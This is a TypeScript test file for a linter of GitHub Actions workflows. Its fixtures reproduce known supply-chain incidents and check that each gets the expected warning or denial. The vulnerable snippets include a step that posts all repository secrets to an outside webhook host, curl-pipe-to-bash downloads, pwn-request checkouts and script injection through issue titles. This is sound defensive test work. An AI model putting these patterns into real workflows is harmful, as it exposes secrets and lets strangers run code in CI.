// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows
import { describe, expect, test } from 'vitest'
import { factsOf, testFixtures } from './said.ts'

const path = '.github/workflows/flow.yml'
const flow = (on: string, steps: string, job = '') => `on: ${on}
permissions: {}
jobs:
  work:
    runs-on: ubuntu-24.04
${job}    steps:
${steps}`
const CHECKOUT = '      - uses: actions/checkout@v4\n'
const ofHead = `${CHECKOUT}        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n`

describe('found', () => {
  testFixtures([
    {
      title: 'tj-actions/changed-files (March 2025): an action by a tag that can be moved',
      path,
      after: flow('push', '      - uses: tj-actions/changed-files@v45\n'),
      says: ['warn ci.unpinned-action:7'],
    },
    {
      title: 'tj-actions/changed-files: a pin to a commit is given up for a tag',
      path,
      before: flow('push', '      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67\n'),
      after: flow('push', '      - uses: tj-actions/changed-files@v45\n'),
      says: ['warn ci.unpinned-action:7'],
    },
    {
      title: 'pwn request (GitHub Security Lab): pull_request_target builds the head',
      path,
      after: flow('pull_request_target', `${ofHead}      - run: npm ci && npm test\n`),
      says: ['deny ci.untrusted-checkout:9'],
    },
    {
      title: 'pwn request: by the repository of the fork and the name of its branch',
      path,
      after: flow(
        'pull_request_target',
        `${CHECKOUT}        with:\n          repository: \${{ github.event.pull_request.head.repo.full_name }}\n          ref: \${{ github.head_ref }}\n      - run: make\n`,
      ),
      says: ['deny ci.untrusted-checkout:10'],
    },
    {
      title: 'pwn request: a comment has the pull request checked out and tested',
      path,
      after: flow('issue_comment', '      - run: gh pr checkout 1\n      - run: make test\n'),
      says: ['deny ci.untrusted-checkout:7'],
    },
    {
      title: 'pwn request: an action of the head itself is run',
      path,
      after: flow('pull_request_target', `${ofHead}      - uses: ./.github/actions/build\n`),
      says: ['deny ci.untrusted-checkout:9'],
    },
    {
      title: 'pwn request whose code is only looked at warns',
      path,
      after: flow('pull_request_target', `${ofHead}      - run: wc -l README.md\n`),
      says: ['warn ci.untrusted-checkout:9'],
    },
    {
      title: 'script injection by the title of an issue',
      path,
      after: flow('issues', '      - run: echo "${{ github.event.issue.title }}"\n'),
      says: ['deny ci.script-injection:7'],
    },
    {
      title: 'nx (s1ngularity, August 2025): the title of a pull request in pull_request_target',
      path,
      after: flow('pull_request_target', '      - run: node check.js "${{ github.event.pull_request.title }}"\n'),
      says: ['deny ci.script-injection:7'],
    },
    {
      title: 'script injection by the name of a branch, in a script of github-script',
      path,
      after: flow('pull_request_target', '      - uses: actions/github-script@v7\n        with:\n          script: console.log("${{ github.head_ref }}")\n'),
      says: ['deny ci.script-injection:9'],
    },
    {
      title: 'script injection by a comment, through format()',
      path,
      after: flow('issue_comment', "      - run: echo ${{ format('{0}', github.event.comment.body) }}\n"),
      says: ['deny ci.script-injection:7'],
    },
    {
      title: 'tj-actions/changed-files CVE-2023-51664: names of files in a script, without secrets',
      path,
      after: flow('pull_request', '      - run: echo ${{ steps.changed-files.outputs.all_changed_files }}\n'),
      says: ['warn ci.script-injection:7'],
    },
    {
      title: 'Codecov (April 2021): bash <(curl …)',
      path,
      after: flow('push', '      - run: bash <(curl -s https://codecov.io/bash)\n'),
      says: ['warn ci.download-and-run:7'],
    },
    {
      title: 'curl | sudo bash, over two lines',
      path,
      after: flow('push', '      - run: |\n          curl -fsSL https://get.acme.example/i.sh \\\n            | sudo -E bash -\n'),
      says: ['warn ci.download-and-run:7'],
    },
    {
      title: 'Shai-Hulud and GhostAction (September 2025): all secrets in one value',
      path,
      after: flow('push', '      - run: curl -d "$ALL" https://webhook.site/x\n        env:\n          ALL: ${{ toJSON(secrets) }}\n'),
      says: ['deny ci.all-secrets:9'],
    },
    {
      title: 'CVE-2020-15228: commands by standard output are switched on again',
      path,
      after: flow('push', '      - run: make\n', '    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n'),
      says: ['deny ci.unsecure-commands:7'],
    },
    {
      title: 'PyTorch (2023): pull requests on own runners',
      path,
      after: 'on: pull_request\npermissions: {}\njobs:\n  gpu:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make\n',
      says: ['warn ci.self-hosted-runner:5'],
    },
    {
      title: 'permissions: write-all',
      path,
      after: 'on: push\npermissions: write-all\njobs: {}\n',
      says: ['warn ci.write-all:2'],
    },
    {
      title: 'pull_request_target with nothing said of permissions',
      path,
      after: 'on: pull_request_target\njobs:\n  label:\n    runs-on: ubuntu-24.04\n    steps: []\n',
      says: ['warn ci.permissions-unset:3'],
    },
    {
      title: 'issue_comment that may write contents',
      path,
      after: 'on: issue_comment\npermissions:\n  contents: write\njobs: {}\n',
      says: ['warn ci.privileged-write:3'],
    },
    {
      title: 'secrets: inherit to a branch of another repository',
      path,
      after: 'on: push\npermissions: {}\njobs:\n  ship:\n    uses: acme/flows/.github/workflows/ship.yml@main\n    secrets: inherit\n',
      says: ['warn ci.secrets-inherited:6'],
    },
  ])
})

describe('left alone', () => {
  testFixtures([
    {
      title: 'Dependabot bumps an action that never was pinned',
      path,
      before: flow('push', '      - uses: docker/login-action@v3\n'),
      after: flow('push', '      - uses: docker/login-action@v4\n'),
      says: [],
    },
    {
      title: 'an action pinned to a commit, its version in a comment',
      path,
      after: flow('push', '      - uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67 # v45\n'),
      says: [],
    },
    { title: "GitHub's own actions by their tag", path, after: flow('push', `${CHECKOUT}      - uses: github/codeql-action/init@v3\n`), says: [] },
    {
      title: "SLSA's generator, which can only be called by a tag",
      path,
      after: 'on: push\npermissions: {}\njobs:\n  slsa:\n    uses: slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.0.0\n',
      says: [],
    },
    { title: 'pull_request builds the head without secrets', path, after: flow('pull_request', `${ofHead}      - run: npm ci\n`), says: [] },
    { title: 'pull_request_target that checks out its own base', path, after: flow('pull_request_target', `${CHECKOUT}      - run: make\n`), says: [] },
    {
      title: "a bot pushes to the branch of a pull request of the repository's own: a fork's branch cannot come that way",
      path,
      after: flow('pull_request_target', `${CHECKOUT}        with:\n          ref: \${{ github.head_ref }}\n      - run: make format\n`),
      says: [],
    },
    {
      title: 'a title handed over in the environment, as GitHub advises',
      path,
      after: flow('issues', '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n'),
      says: [],
    },
    { title: 'a number of a pull request in a script', path, after: flow('pull_request_target', '      - run: echo ${{ github.event.number }}\n'), says: [] },
    {
      title: 'a title as a condition, not in a script',
      path,
      after: flow('issues', "      - run: echo bug\n        if: contains(github.event.issue.title, 'bug')\n"),
      says: [],
    },
    {
      title: 'a download that is compared before it is run',
      path,
      after: flow('push', '      - run: |\n          curl -fsSLo i.sh https://acme.example/i.sh\n          sha256sum -c i.sha256\n          bash i.sh\n'),
      says: [],
    },
    { title: 'curl into jq', path, after: flow('push', '      - run: curl -s https://api.acme.example | jq .name\n'), says: [] },
    { title: 'one secret by its name', path, after: flow('push', '      - run: make\n        env:\n          KEY: ${{ secrets.KEY }}\n'), says: [] },
    {
      title: 'a job that is moved to another name',
      path,
      before: flow('pull_request_target', `${ofHead}      - run: make\n`),
      after: flow('pull_request_target', `${ofHead}      - run: make\n`).replace('work:', 'build:'),
      says: [],
    },
    {
      title: 'a workflow that is no workflow for its place',
      path: 'docs/flow.yml',
      after: flow('pull_request_target', `${ofHead}      - run: make\n`),
      says: [],
    },
  ])
})

describe('what keeps strangers out of a job', () => {
  const guardOf = (text: string) => factsOf(path, text).find(({ kind }) => kind === 'workflow.untrusted-checkout')?.['guarded']
  test.each([
    ['a condition on the fork', '    if: github.event.pull_request.head.repo.full_name == github.repository\n'],
    ['a condition on the author', "    if: github.event.pull_request.author_association == 'MEMBER'\n"],
    ['a label', "    if: contains(github.event.pull_request.labels.*.name, 'safe to test')\n"],
    ['an environment', '    environment: external\n'],
  ])('%s', (_, job) => {
    expect(guardOf(flow('pull_request_target', `${ofHead}      - run: make\n`, job))).toBe(true)
  })
  test('a job before it that asks for permission', () => {
    const before = '  ask:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: acme/check-user-permission@v1\n'
    const text = flow('pull_request_target', `${ofHead}      - run: make\n`, '    needs: ask\n').replace('jobs:\n', `jobs:\n${before}`)
    expect(guardOf(text)).toBe(true)
  })
  test('a job before it that asks for nothing does not', () => {
    const before = '  lint:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make lint\n'
    const text = flow('pull_request_target', `${ofHead}      - run: make\n`, '    needs: lint\n').replace('jobs:\n', `jobs:\n${before}`)
    expect(guardOf(text)).toBe(false)
  })
  test('a condition that is about something else does not', () => {
    expect(guardOf(flow('pull_request_target', `${ofHead}      - run: make\n`, '    if: always()\n'))).toBe(false)
  })
})
